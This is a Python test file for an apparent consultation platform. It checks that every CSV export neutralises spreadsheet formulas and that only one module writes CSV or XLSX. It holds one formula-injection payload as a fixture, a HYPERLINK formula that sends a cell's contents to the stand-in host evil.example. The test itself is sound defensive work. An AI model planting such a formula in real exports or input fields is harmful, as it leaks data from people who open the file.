"""Every CSV and XLSX that Consult writes neutralises formulas, whoever downloads it.

A researcher names a theme with a spreadsheet formula; the committee's CSV
download, the ``consult report`` tables and the researcher exports all carry
it as text. And no module writes CSV or XLSX except through
:mod:`analysis.spreadsheet`.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from tests.conftest import csrf_from, sign_in
from tests.consult.reports.test_reports import COMMITTEE, RESEARCHER, publish
from tests.consult.seed import seed

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Housing")'
LANGUAGES = ("en", "fr", "ar", "zh-Hans", "pa", "tl", "es", "fa", "ur", "uk", "ti", "so")
WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(")


def _rename_housing(app, client, label: str) -> None:
    from consult import db
    from consult.coding.services import current_codebook

    with app.app_context():
        theme = current_codebook(db.session(), 1).theme("housing")
    values = {}
    for code in LANGUAGES:
        values[f"label_{code}"] = theme.labels.get(code, "")
        values[f"definition_{code}"] = theme.definitions.get(code, "")
        values[f"patterns_{code}"] = "\n".join(theme.patterns.get(code, ()))
    values["label_en"] = label
    form = client.get("/research/codebook/themes/housing")
    saved = client.post(
        "/research/codebook/themes/housing", data={**values, "csrf_token": csrf_from(form.text)}
    )
    assert saved.status_code == 302


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r", cell


def test_committee_and_report_command_csvs_carry_a_formula_label_as_text(
    app, client, runner, tmp_path
):
    seed(app)
    sign_in(client, *RESEARCHER)
    _rename_housing(app, client, FORMULA)
    publication_id = publish(client)
    committee = app.test_client()
    sign_in(committee, *COMMITTEE)
    download = committee.get(f"/committee/{publication_id}/report.csv?lang=en")
    assert download.status_code == 200
    cells = _cells(download.text)
    assert "'" + FORMULA in cells
    _no_formula(cells)

    out = ["--out", str(tmp_path)]
    result = runner.invoke(args=["report", "needs-assessment", "--lang", "en", *out])
    assert result.exit_code == 0, result.output
    tables = sorted(tmp_path.glob("*.csv"))
    assert tables
    found = [cell for path in tables for cell in _cells(path.read_text(encoding="utf-8-sig"))]
    assert "'" + FORMULA in found
    _no_formula(found)


def test_no_module_writes_csv_or_xlsx_but_the_neutralising_writer():
    offenders = []
    for package in ("consult", "analysis", "forms"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "analysis" / "spreadsheet.py":
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if WRITERS.search(line):
                    offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == [], "write CSV and XLSX through analysis.spreadsheet:\n" + "\n".join(
        offenders
    )
